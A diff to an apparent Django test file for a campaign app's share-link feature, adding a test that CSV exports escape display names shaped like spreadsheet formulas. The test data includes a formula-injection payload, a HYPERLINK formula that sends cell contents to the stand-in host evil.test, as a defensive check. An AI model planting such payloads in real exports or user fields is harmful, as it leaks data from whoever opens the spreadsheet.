@@ -1,6 +1,8 @@
 """Share links through the pages: visits, first touch, attribution after log-in, the share
 panel, the hosts' dashboard and its exports, notifications."""
 
+import csv
+import io
 import uuid
 from typing import Any
 
@@ -164,6 +166,24 @@ def test_the_dashboard_and_its_exports_are_for_hosts_only(client, hosted):
     relays = client.get(reverse("relay:export", args=[campaign.slug, "relays"])).content.decode()
     assert relays.splitlines()[1] == f"{relay.display_name},1,1,0"
     assert client.get(reverse("relay:export", args=[campaign.slug, "nope"])).status_code == 404
+
+
+def test_exports_write_names_that_look_like_formulas_as_text(client):
+    pledge = PledgeFactory.create()
+    campaign = pledge.campaign
+    formula = '=HYPERLINK("http://evil.test/?"&A1,"Voir")'
+    relay = UserFactory.create(display_name=formula)
+    friend = UserFactory.create(display_name="@SUM(1+1)")
+    supporter_record(campaign=campaign, user=relay, action="sign")
+    supporter_record(
+        campaign=campaign, user=friend, action="sign", link=link_for(user=relay, campaign=campaign)
+    )
+    client.force_login(campaign.created_by)
+    for table in ("relays", "links"):
+        text = client.get(reverse("relay:export", args=[campaign.slug, table])).content.decode()
+        rows = list(csv.reader(io.StringIO(text)))
+        names = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
+        assert names == ["'" + formula], table
 
 
 def test_the_public_sees_aggregate_counts_only(client, hosted):
